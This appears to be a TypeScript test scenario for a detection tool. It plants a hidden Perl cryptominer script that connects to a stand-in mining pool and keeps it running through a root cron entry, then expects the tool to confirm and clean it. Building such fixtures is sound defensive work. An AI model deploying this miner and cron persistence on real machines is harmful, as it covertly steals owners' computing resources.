import { world } from '../../../lab/addresses.ts';
import { loginText } from '../../../lab/standin/stratum.ts';
import { scenario } from '../scenario.ts';
import { addCron } from '../words.ts';

const script = '/var/tmp/.pm/worker.pl';
const line = `*/5 * * * * /usr/bin/perl ${script} >/dev/null 2>&1`;

export default scenario({
  what: 'a miner script under a packaged interpreter',
  report: 'Miners in Python and Perl: the image is the distribution’s, the script the thief’s.',
  plant: {
    files: {
      [script]: `use Socket;
# stratum+tcp, mining.subscribe, donate-level
while (1) {
  socket(my $s, PF_INET, SOCK_STREAM, 0);
  if (connect($s, sockaddr_in(${world.poolPort}, inet_aton('${world.pool}')))) {
    syswrite($s, '${loginText.trim()}' . "\\n");
    while (sysread($s, my $line, 4096)) { }
  }
  sleep 1;
}
`,
    },
    start: `${addCron('root', [line])}\nrun /usr/bin/perl ${script}`,
    runs: [script],
  },
  expect: {
    verdict: 'confirmed',
    ticked: { processes: [script], files: [script], starters: [line] },
    stays: ['/var/spool/cron/crontabs/root'],
    resolution: 'cleaned',
  },
});
